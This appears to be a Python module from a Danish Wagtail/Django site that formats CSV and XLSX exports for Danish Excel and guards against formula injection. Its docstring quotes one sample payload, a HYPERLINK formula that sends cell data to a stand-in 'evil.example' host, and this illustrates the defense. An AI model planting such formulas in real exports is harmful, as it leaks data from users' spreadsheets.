"""Spreadsheets as Danish Excel opens them, and cells that a spreadsheet never runs as formulas.

Every CSV and XLSX file the platform hands out is written by the rules here:

* **CSV** (``csv_value``, ``CSV_DIALECT``): UTF-8 with a byte-order mark (without it Excel reads
  the file as Windows-1252 and shows "pÃ¥"), semicolons between cells (a Danish Excel expects
  them, as the comma is its decimal sign), decimal comma in numbers (``2900,00``), times in
  Danish local time as ``2027-01-15 09:00`` (never UTC, never an offset), ``Ja``/``Nej`` for
  yes and no, and the label of a choice rather than its stored value.
* **XLSX** (``xlsx_value``, ``xlsx_number_format``): real cells: date and date-time cells in
  Danish local time without a time zone (Excel has none), numbers as numbers with a number
  format (money with two decimals), text as text.

Wagtail's admin listings (every ``ModelViewSet``/``SnippetViewSet`` with ``list_export``, the
reports, form submissions) write through ``SpreadsheetExportMixin``; ``danish_wagtail_exports``
makes that mixin use these rules at start-up, so that no listing can be forgotten. The
hand-built workbooks (``competencies.exports``, the strategy plan, the project report, the
access log) write typed cells in local time too; a new one should build its cells with
``xlsx_cell``, and a new CSV should use ``csv_writer`` after ``BOM``.

CSV/formula injection:

A CSV file has no cell types: Excel and LibreOffice run a cell that starts with ``=``, ``+``,
``-`` or ``@`` (and, after a tab or carriage return, whatever follows) as a formula. A person
named ``=HYPERLINK("https://evil.example?"&A1)`` would then leak data from the HR export. Every
CSV this project writes goes through ``csv_safe``: such a text gets a leading apostrophe, which
spreadsheets show as text, the way OWASP recommends. The XLSX exports are safe already (their
text cells are typed as text, see ``competencies.exports`` and Wagtail's ``generate_xlsx_row``).

"""

from __future__ import annotations

import csv
import datetime
from collections.abc import Iterable, Iterator, Mapping
from decimal import Decimal
from typing import Any

from django.utils import timezone
from django.utils.encoding import force_str

# What a spreadsheet reads as the start of a formula (tab and CR: after them the next character
# is read as the cell's first).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


BOM = "\ufeff"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What a Danish Excel (and LibreOffice with Danish settings) splits and reads without asking.
CSV_DIALECT: dict[str, Any] = {"delimiter": ";", "quotechar": '"', "lineterminator": "\r\n"}
CSV_DATETIME = "%Y-%m-%d %H:%M"
CSV_DATE = "%Y-%m-%d"
XLSX_DATETIME = "yyyy-mm-dd hh:mm"
XLSX_DATE = "yyyy-mm-dd"
XLSX_MONEY = "#,##0.00"  # shown as 2.900,00 by a Danish Excel


def local_naive(value: datetime.datetime) -> datetime.datetime:
    """An aware moment as the wall-clock time in Denmark, without tzinfo (what a sheet shows)."""
    if timezone.is_naive(value):
        return value
    return timezone.localtime(value).replace(tzinfo=None)


def _text(value: Any) -> str:
    """Lists as "a, b", lazy translations and model instances as their text."""
    if isinstance(value, list | tuple):
        return ", ".join(_text(item) for item in value)
    text: str = force_str(value)
    return text


class CsvNumber(str):
    """A number written with a decimal comma: ``csv_safe`` leaves "-5,00" alone."""


def decimal_comma(value: Decimal | float) -> str:
    """``2900.00`` → ``2900,00``: no thousands separator, which Excel would read as text."""
    return CsvNumber(f"{value}".replace(".", ","))


def csv_value(value: Any) -> Any:
    """One CSV cell as a Danish spreadsheet reads it (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Ja" if value else "Nej"
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal | float):
        return decimal_comma(value)
    if isinstance(value, datetime.datetime):
        return local_naive(value).strftime(CSV_DATETIME)
    if isinstance(value, datetime.date):
        return value.strftime(CSV_DATE)
    if isinstance(value, datetime.time):
        return value.strftime("%H:%M")
    return csv_safe(_text(value))


def xlsx_value(value: Any) -> Any:
    """One XLSX cell's value: dates, times and numbers stay typed (local time, no tzinfo)."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    if isinstance(value, datetime.datetime):
        return local_naive(value)
    if isinstance(value, datetime.date | datetime.time):
        return value
    return _text(value)


def xlsx_number_format(value: Any) -> str | None:
    """The number format a typed cell needs to read well in Excel; None for text."""
    if isinstance(value, bool):
        return None
    if isinstance(value, datetime.datetime):
        return XLSX_DATETIME
    if isinstance(value, datetime.date):
        return XLSX_DATE
    if isinstance(value, Decimal):
        exponent = value.as_tuple().exponent  # -2 for 2900.00; a letter for NaN/Infinity
        return XLSX_MONEY if exponent == -2 else None  # other numbers: Excel's General
    return None


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A write-only cell: typed, formatted, and text never read as a formula."""
    from openpyxl.cell import WriteOnlyCell

    value = xlsx_value(value)
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula, whatever the text starts with
    number_format = xlsx_number_format(value)
    if number_format:
        cell.number_format = number_format
    return cell


def csv_writer(stream: Any) -> SafeWriter:
    """A CSV writer in the Danish dialect whose cells go through ``csv_value``."""
    return SafeWriter(stream, **CSV_DIALECT)


def csv_safe(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: text that looks like a formula starts with '."""
    if isinstance(value, CsvNumber):  # a number we wrote: "-5,00" is not a formula
        return value
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_safe_row(row: Iterable[Any]) -> list[Any]:
    """Every cell of a row through ``csv_safe``."""
    return [csv_safe(value) for value in row]


class SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose every cell (headings too) passes through ``csv_safe``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: csv_safe(value) for key, value in rowdict.items()})


class SafeWriter:
    """``csv.writer`` whose every cell passes through ``csv_value`` (and so ``csv_safe``):
    use ``csv_writer`` for our own CSVs, and write ``BOM`` first."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_value(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


# --- Wagtail's SpreadsheetExportMixin, made Danish --------------------------------------------


def _choice_label(view: Any, field: str, value: Any) -> Any:
    """The label of a model field's choice ("Boligorganisation", not "housing")."""
    model = getattr(view, "model", None)
    if model is None or "." in field or isinstance(value, bool):
        return value
    try:
        model_field = model._meta.get_field(field)
    except Exception:  # a method, a property or an annotation: no choices
        return value
    # Only fields with their own choices (a foreign key's "choices" would query its table).
    if not getattr(model_field, "choices", None):
        return value
    return dict(model_field.flatchoices).get(value, value)


def _preprocess_field_value(self: Any, field: str, value: Any, export_format: str) -> Any:
    """A view's own rule for a field wins; every other value follows this module's rules."""
    own_rules = self.custom_field_preprocess.get(field, {})
    if export_format in own_rules:
        function = own_rules[export_format]
        return function(value) if function is not None else value
    value = _choice_label(self, field, value)
    return csv_value(value) if export_format == self.FORMAT_CSV else xlsx_value(value)


def _stream_csv(self: Any, queryset: Any) -> Iterator[bytes]:
    """Wagtail's ``stream_csv`` in the Danish dialect, with the BOM before the headings."""
    from wagtail.admin.views.mixins import Echo

    writer = SafeDictWriter(Echo(), fieldnames=self.list_export, **CSV_DIALECT)
    headings = {field: self.get_heading(queryset, field) for field in self.list_export}
    yield BOM.encode() + writer.writerow(headings)  # Wagtail's Echo writes UTF-8 bytes
    for item in queryset:
        yield self.write_csv_row(writer, self.to_row_dict(item))


def _generate_xlsx_row(self: Any, worksheet: Any, row_dict: Any, date_format: Any = None) -> Any:
    """Typed cells in Danish local time (Wagtail's own writes UTC times as if local)."""
    for field, value in row_dict.items():
        yield xlsx_cell(worksheet, self.preprocess_field_value(field, value, self.FORMAT_XLSX))


def _write_xlsx(self: Any, queryset: Any, output: Any) -> None:
    """Wagtail's ``write_xlsx`` with a named sheet (not "Sheet1") and bold headings."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=force_str(self.get_filename())[:31] or "Ark1")
    headings = []
    for field in self.list_export:
        cell = WriteOnlyCell(sheet, value=self.get_heading(queryset, field))
        cell.font = Font(bold=True)
        headings.append(cell)
    sheet.append(headings)
    for item in queryset:
        sheet.append(self.generate_xlsx_row(sheet, self.to_row_dict(item)))
    workbook.save(output)


def _write_csv_response(self: Any, queryset: Any) -> Any:
    from django.http import StreamingHttpResponse

    response = StreamingHttpResponse(self.stream_csv(queryset), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{self.get_filename()}.csv"'
    return response


def danish_wagtail_exports() -> None:
    """Make every Wagtail admin CSV/XLSX export follow this module's rules (idempotent)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    mixin: Any = SpreadsheetExportMixin
    mixin.preprocess_field_value = _preprocess_field_value
    mixin.stream_csv = _stream_csv
    mixin.generate_xlsx_row = _generate_xlsx_row
    mixin.write_xlsx = _write_xlsx
    mixin.write_csv_response = _write_csv_response


# The name core.apps calls (kept: the formula guard was its first rule).
protect_wagtail_csv_exports = danish_wagtail_exports
